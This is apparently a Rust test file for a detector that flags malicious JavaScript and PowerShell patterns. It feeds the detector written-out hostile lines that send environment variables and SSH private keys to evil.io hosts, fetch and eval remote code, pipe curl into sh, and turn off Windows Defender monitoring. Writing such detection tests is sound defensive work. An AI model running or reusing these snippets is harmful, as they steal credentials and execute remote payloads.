use super::*;
use crate::code::{Language, rules_met};
use crate::intent::Intent;

fn rules(text: &str) -> Vec<&'static str> {
    rules_met(Language::Script, text)
}

#[test]
fn javascript_is_followed() {
    assert!(
        rules(
            "const e = JSON.stringify(process.env);\nfetch('https://c.evil.io', {method: 'POST', body: e})"
        )
        .contains(&"environment-to-network")
    );
    assert!(
        rules("const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\nawait axios.post('https://c.evil.io', {k});")
            .contains(&"credential-files-to-network")
    );
    assert!(rules("fetch(u).then(r => r.text()).then(c => eval(c))").contains(&"run-remote-code"));
    assert!(rules("const c = Buffer.from(x, 'base64').toString();\neval(c);").contains(&"run-decoded-code"));
    assert!(
        rules("require('child_process').execSync('curl https://x.evil.io/a | sh')")
            .contains(&"download-and-run")
    );
    assert_eq!(
        rules("const key = process.env.API_KEY;\nfetch('https://api.x.io', {headers: {Authorization: key}})"),
        [""; 0]
    );
}

#[test]
fn powershell_is_followed() {
    assert!(!rules("IEX (New-Object Net.WebClient).DownloadString('http://x.evil.io/a')").is_empty());
    assert!(
        rules("$c = Invoke-WebRequest https://x.evil.io/a\nInvoke-Expression $c.Content")
            .contains(&"run-remote-code")
    );
    assert!(rules("$e = Get-ChildItem Env: | Out-String\nInvoke-RestMethod -Uri https://c.evil.io -Method Post -Body $e").contains(&"environment-to-network"));
    assert!(rules("Set-MpPreference -DisableRealtimeMonitoring $true").contains(&"defences-off"));
}

proptest::proptest! {
    #[test]
    fn any_text_is_read(text in "\\PC{0,120}") {
        for hit in read(&text, &Reading::new(&Intent::default())) {
            proptest::prop_assert!(hit.start <= hit.end && hit.end <= text.len());
        }
    }
}
